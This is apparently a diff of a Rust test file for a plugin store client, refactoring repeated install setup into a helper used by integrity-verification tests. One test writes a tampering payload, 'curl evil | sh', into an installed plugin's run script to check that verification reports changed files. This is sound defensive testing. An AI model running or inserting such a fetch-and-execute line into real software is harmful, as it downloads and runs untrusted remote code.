@@ -8,13 +8,13 @@ mod common;
 
 use std::sync::{Arc, Mutex};
 
-use common::{Plugin, clock, clock_site, store};
+use common::{Plugin, Site, clock, clock_site, store};
 use semver::Version;
 use trellis_client::consent::Disclosure;
 use trellis_client::events::{ChannelReporter, Event};
 use trellis_client::hooks::{Hook, RecordingHooks};
 use trellis_client::state::InstallReason;
-use trellis_client::store::{AlwaysAgree, Consent, NeverAgree, Session, StoreError, install::parse_requirement};
+use trellis_client::store::{AlwaysAgree, Consent, NeverAgree, Session, Store, StoreError, install::parse_requirement};
 use trellis_schema::PluginId;
 
 fn id(s: &str) -> PluginId {
@@ -310,13 +310,20 @@ fn blocklisted_plugins_are_refused_and_installed_copies_are_stopped() {
     assert_eq!(hooks.calls().len(), calls);
 }
 
-#[test]
-fn verify_reports_changed_missing_and_added_files() {
+/// A site with the clock plugins and `acme.clock 1.0.0` installed from it (keep the
+/// site and data dir alive while the store is used).
+fn installed_clock() -> (Site, tempfile::TempDir, Store) {
     let site = clock_site();
     let data = tempfile::tempdir().unwrap();
     let mut store = store(data.path(), &site);
     let hooks = RecordingHooks::new();
     store.install(&[parse_requirement("acme.clock").unwrap()], &Session::new(&hooks, &AlwaysAgree)).unwrap();
+    (site, data, store)
+}
+
+#[test]
+fn verify_reports_changed_missing_and_added_files() {
+    let (_site, _data, store) = installed_clock();
     let dir = store.data_dir().release_dir(&id("acme.clock"), &v("1.0.0"));
     std::fs::write(dir.join("bin/any/run.sh"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
     std::fs::remove_file(dir.join("LICENSE")).unwrap();
@@ -340,11 +347,7 @@ fn verify_reports_a_manifest_edited_to_match_edited_files_as_tampering() {
     use trellis_schema::manifest::ReleaseManifest;
     use trellis_schema::{Sha256, SigningKey};
 
-    let site = clock_site();
-    let data = tempfile::tempdir().unwrap();
-    let mut store = store(data.path(), &site);
-    let hooks = RecordingHooks::new();
-    store.install(&[parse_requirement("acme.clock").unwrap()], &Session::new(&hooks, &AlwaysAgree)).unwrap();
+    let (_site, _data, store) = installed_clock();
     let dir = store.data_dir().release_dir(&id("acme.clock"), &v("1.0.0"));
     assert!(dir.join(PUBLISHER_RECORD_FILE).is_file());
 
@@ -381,11 +384,7 @@ fn verify_reports_a_manifest_edited_to_match_edited_files_as_tampering() {
 fn verify_reports_a_missing_publisher_record_instead_of_skipping_the_signature() {
     use trellis_client::store::PUBLISHER_RECORD_FILE;
 
-    let site = clock_site();
-    let data = tempfile::tempdir().unwrap();
-    let mut store = store(data.path(), &site);
-    let hooks = RecordingHooks::new();
-    store.install(&[parse_requirement("acme.clock").unwrap()], &Session::new(&hooks, &AlwaysAgree)).unwrap();
+    let (_site, _data, store) = installed_clock();
     assert!(store.verify(&[]).unwrap().iter().all(|r| r.problems.is_empty()));
     let dir = store.data_dir().release_dir(&id("acme.clock"), &v("1.0.0"));
     std::fs::remove_file(dir.join(PUBLISHER_RECORD_FILE)).unwrap();
